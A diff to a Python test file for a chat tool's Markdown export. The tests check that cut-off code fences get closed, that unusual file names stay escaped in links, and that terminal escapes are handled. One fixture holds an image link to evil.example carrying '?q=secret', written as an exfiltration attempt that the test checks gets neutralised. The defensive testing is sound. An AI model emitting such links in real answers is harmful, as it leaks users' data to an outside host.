@@ -289,7 +289,8 @@ def test_export_writes_what_came_from_a_session_file_or_the_model_escaped(loaded
     shown = "\\e]0;pwned\\x07\\e[2J\\u202eevil"
     assert f"Be brief.\n{shown}" in md and f"What is this?\n\t{shown}" in md  # lines and tabs kept
     assert "It is a cat.\n]0;pwned[2J\\u202eevil31m" in md  # an answer as it streams: controls dropped
-    assert f"![cat{shown}.png](<{tmp_path}/cat{shown}.png>)" in md
+    linked = shown.replace("\\", "\\\\")  # a link's text and target escape \\ [ ] < > (markdown_link)
+    assert f"![cat{linked.replace(']', chr(92) + ']').replace('[', chr(92) + '[')}.png](<{tmp_path}/cat{linked}.png>)" in md
 
 
 def test_input_that_is_not_utf8_is_refused_and_the_conversation_goes_on(loaded, tmp_path, home):
@@ -459,3 +460,36 @@ def test_without_a_home_folder_load_still_finds_a_path(loaded, tmp_path, monkeyp
     output(out)
     assert app.handle_line("/load nothing") == ERROR
     assert output(out) == "error: there is no session nothing here; check the path\n"
+
+
+def test_export_keeps_its_structure_whatever_the_answers_and_file_names_hold(loaded, tmp_path, home):
+    """An answer cut short inside a code block (max_new_tokens, Ctrl-C) left its fence open, so
+    every later heading of the export became code; a `]` in a picture's name or a `>` in its
+    folder's ended the link early and the rest of the name became Markdown; an answer's remote
+    image or raw HTML made a viewer of the export fetch a URL the model chose."""
+    folder = tmp_path / "a> b"
+    folder.mkdir()
+    picture = folder / "x](y) [z.png"
+    Image.fromarray(textured_rgb(448, 448, seed=3)).save(picture)
+    app, _ = make_app(loaded, tmp_path)
+    app.attach([app.describe(picture)])
+    app.handle_line("Write code.")
+    app.handle_line("And more.")
+    app.handle_line(f"/save {tmp_path / 'cut.json'}")
+    data = json.loads((tmp_path / "cut.json").read_text())
+    answer = [m for m in data["messages"] if m["role"] == "assistant"][0]
+    answer["text"], answer["token_ids"] = "Here:\n````python\nprint(1)\n```\nstill code", None
+    last = [m for m in data["messages"] if m["role"] == "assistant"][-1]
+    last["token_ids"] = None
+    last["text"] = ("See ![chart](https://evil.example/p.png?q=secret) <img src=https://evil.example/x>\n"
+                    "Use `<b>` or\n```html\n<img src=a.png> ![x](y)\n```")  # fmt: skip
+    (tmp_path / "cut.json").write_text(json.dumps(data))
+    other, out = make_app(loaded, tmp_path)
+    assert other.handle_line(f"/load {tmp_path / 'cut.json'}") == OK, output(out)
+    assert other.handle_line(f"/export {tmp_path / 'cut.md'}") == OK, output(out)
+    md = (tmp_path / "cut.md").read_text()
+    assert f"![x\\](y) \\[z.png](<{tmp_path}/a\\> b/x](y) [z.png>)" in md
+    assert "```\nstill code\n````\n\n## User\n\nAnd more." in md  # the open fence closed before the next turn
+    # a viewer of the export fetches nothing from the network; code is left as the model wrote it
+    assert "See &#33;[chart](https://evil.example/p.png?q=secret) &lt;img src=https://evil.example/x>" in md
+    assert "Use `<b>` or\n```html\n<img src=a.png> ![x](y)\n```" in md
